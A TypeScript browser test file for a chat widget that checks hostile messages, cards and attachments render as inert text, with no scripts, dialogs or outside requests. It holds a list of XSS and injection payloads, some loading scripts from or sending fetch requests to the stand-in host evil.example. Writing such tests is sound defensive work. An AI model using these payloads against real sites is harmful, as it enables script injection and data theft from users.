/** Hostile texts, from customers and in answers, stay text: nothing runs, nothing loads, no policy is violated. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Activity, DraftActivity } from '../../src/domain/activity.ts';
import { adaptiveCard, facts, heading, table, text } from '../../src/kit/cards/card.ts';
import { type TestBrowser, testBrowser } from '../support/browser.ts';
import { card, type WebApp, webApp } from '../support/web-app.ts';
import { openChat } from '../support/web-chat.ts';

const evil = 'http://evil.example';
const payloads = [
  '<script>alert(1)</script>',
  `<script src="${evil}/x.js"></script>`,
  `<img src=x onerror="fetch('${evil}')">`,
  `<img src="${evil}/pixel.png">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert&#40;1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<body onload=alert(1)>`,
  `<a href="javascript:alert(1)">hier</a>`,
  `[hier](javascript:alert(1))`,
  `![](${'//evil.example/beacon.png'})`,
  `javascript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `vbscript:msgbox(1)`,
  `java\nscript:alert(1)`,
  `"><script>alert(1)</script>`,
  `'-alert(1)-'`,
  `</textarea><script>alert(1)</script>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<template><script>alert(1)</script></template>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)>`,
  `<object data="javascript:alert(1)">`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<style>*{background:url(${evil}/x)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay as it is
  '${alert(1)}',
  '{{DATE(2026-01-01,SHORT)}} <%= 7*7 %> #{7*7}',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img&#x3E;',
  `\u202Egpj.exe\u202C \u200B\u200D${'e\u0301'.repeat(20)}${'\u0300'.repeat(500)}`,
  `<xss style="behavior:url(${evil})" onclick=alert(1)>x</xss>`,
  `<a href="https://good.example" onmouseover=alert(1)>x</a>`,
];

let app: WebApp;
let browser: TestBrowser;
let answers: DraftActivity[] = [];
beforeAll(async () => {
  app = await webApp({ answer: (activity) => (activity.type === 'message' ? answers : hello(activity)) });
  browser = await testBrowser();
});
afterAll(async () => {
  await browser.close();
  await app.close();
});

const bot = { id: 'tresen', name: '<b>Tresen</b>', role: 'bot' as const };
const hello = ({ id }: Activity): DraftActivity[] => [
  { type: 'message', from: bot, text: 'Willkommen', replyToId: id },
];

/** Opens the chat and listens for everything that must not happen. */
async function watched() {
  const opened = await browser.open('about:blank');
  const { page, faults, requests } = opened;
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(
    "addEventListener('securitypolicyviolation', (event) => console.error('CSP', event.violatedDirective))",
  );
  await page.goto(app.base);
  const chat = await openChat(page);
  await chat.hear('Willkommen');
  const foreign = () => requests.filter((url) => url !== 'about:blank' && !url.startsWith(app.base));
  return { page, chat, faults, dialogs, foreign };
}

const normal = (words: string) => words.replace(/\s+/g, ' ').trim();

test('texts of customers and of the bot are shown as they are', async () => {
  answers = payloads.map((payload) => ({ type: 'message', from: bot, text: payload }));
  const { page, chat, faults, dialogs, foreign } = await watched();
  for (const payload of payloads) await chat.say(payload);
  await chat.hear(payloads.at(-1) ?? '');
  await expect
    .poll(() => chat.frame.getByRole('button', { name: /Frühere Nachrichten/ }).innerText(), {
      timeout: 10_000,
    })
    .toMatch(/\(\d{4}\)/);
  const shown = (await chat.frame.locator('.bubble').allTextContents()).map(normal);
  for (const payload of payloads) expect(shown).toContain(normal(payload));
  const links = await chat.log
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  for (const href of links) expect(href).toMatch(/^(https?|mailto|tel):/);
  expect({ faults, dialogs, foreign: foreign() }).toEqual({ faults: [], dialogs: [], foreign: [] });
  await page.context().close();
});

test('hostile words in cards, names, files and buttons do nothing', async () => {
  const nasty = payloads.slice(0, 12);
  const elements = nasty.flatMap((payload) => [
    heading(payload),
    text(payload),
    facts([{ name: payload, value: payload }]),
    { type: 'Image', url: `${evil}/pixel.png`, altText: payload },
    { type: 'Media', sources: [{ mimeType: 'video/mp4', url: `${evil}/x.mp4` }], poster: `${evil}/x.png` },
    { type: 'ImageSet', images: [{ type: 'Image', url: `${evil}/set.png` }] },
  ]);
  const grid = table(
    [{ title: nasty[0] ?? '', width: 1 }],
    nasty.map((payload) => [payload]),
  );
  const actions = nasty.map((payload) => ({
    type: 'Action.OpenUrl',
    title: payload,
    url: 'javascript:alert(1)',
    iconUrl: `${evil}/i.png`,
  }));
  answers = [
    {
      type: 'message',
      from: bot,
      text: 'Karte da',
      attachments: [
        card({ ...adaptiveCard([...elements, grid], actions), backgroundImage: `${evil}/bg.png` }),
        { contentType: 'text/html', content: '<script>alert(1)</script>', name: 'x' },
        { contentType: 'image/svg+xml', contentUrl: `${evil}/x.svg`, name: '<script>' },
        { contentType: 'application/pdf', contentUrl: 'javascript:alert(1)', name: 'javascript.pdf' },
      ],
      suggestedActions: {
        actions: nasty.map((payload) => ({ type: 'openUrl', title: payload, value: 'javascript:alert(1)' })),
      },
    },
  ];
  const { page, chat, faults, dialogs, foreign } = await watched();
  await chat.say('Karte');
  await chat.frame.getByRole('table').waitFor();
  for (const button of await chat.frame.locator('.reply').all()) await button.click();
  expect(await chat.frame.locator('.card .ac-pushButton').count()).toBe(0);
  expect(await chat.log.locator('img, script, iframe, svg script, video, object').count()).toBe(0);
  expect(await chat.frame.getByRole('link', { name: 'javascript.pdf' }).count()).toBe(0);
  expect({ faults, dialogs, foreign: foreign() }).toEqual({ faults: [], dialogs: [], foreign: [] });
  await page.context().close();
});

test('a text without end stays in its bubble', async () => {
  answers = [{ type: 'message', from: bot, text: `${'A'.repeat(3_000)} ${'x\n'.repeat(2_000)} Ende` }];
  const { page, chat } = await watched();
  await chat.say('lang');
  await chat.hear(/Ende/);
  expect(await chat.log.evaluate((log) => log.scrollWidth <= log.clientWidth)).toBe(true);
  await page.context().close();
});
